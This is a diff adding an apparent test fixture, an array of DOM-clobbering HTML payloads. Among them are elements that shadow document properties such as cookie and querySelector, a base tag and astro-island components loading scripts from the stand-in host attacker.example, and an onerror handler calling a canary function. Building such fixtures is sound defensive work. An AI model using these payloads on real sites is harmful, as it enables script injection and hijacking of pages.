@@ -1,0 +1,23 @@
+/** Names that take the place of what scripts look for in a document. */
+export const clobbering = [
+  '<a id=canary href="https://attacker.example/">x</a>',
+  '<a id=x><a id=x name=y href="javascript:canary()">x</a>',
+  '<form id=document><input name=cookie><input name=querySelector></form>',
+  '<form name=body><input name=appendChild></form>',
+  '<form id=x><output name=children>x</output><input name=attributes></form>',
+  '<img name=getElementById src=x>',
+  '<img name=querySelectorAll id=querySelectorAll src=x>',
+  '<iframe name=self srcdoc="<a id=x>x</a>"></iframe>',
+  '<object id=localStorage data=x></object>',
+  '<embed name=currentScript src=x>',
+  '<p id=__proto__ class=constructor>x</p>',
+  '<p id=astro-island>x</p><astro-island uid=x component-url="https://attacker.example/c.js" client="load" renderer-url="https://attacker.example/r.js" props="{}" opts="{}" ssr></astro-island>',
+  '<astro-island component-url="data:text/javascript,canary()" renderer-url="data:text/javascript,canary()" client=load ssr opts={} props={}></astro-island>',
+  '<featured-quote index=0>x</featured-quote>',
+  '<p data-theme=dark data-login-message=x data-pm-slice="0 0 []">x</p>',
+  '<p class="article-cover visually-hidden" id=main>x</p>',
+  '<h1 id=root>x</h1><main id=main-content>x</main>',
+  '<meta name=referrer content=unsafe-url><base id=baseURI href="https://attacker.example/">',
+  '<p slot=x is=x-y part=z exportparts=z nonce=x>x</p>',
+  '<b type=raw value="<img src=x onerror=canary()>" children="x">x</b>',
+]
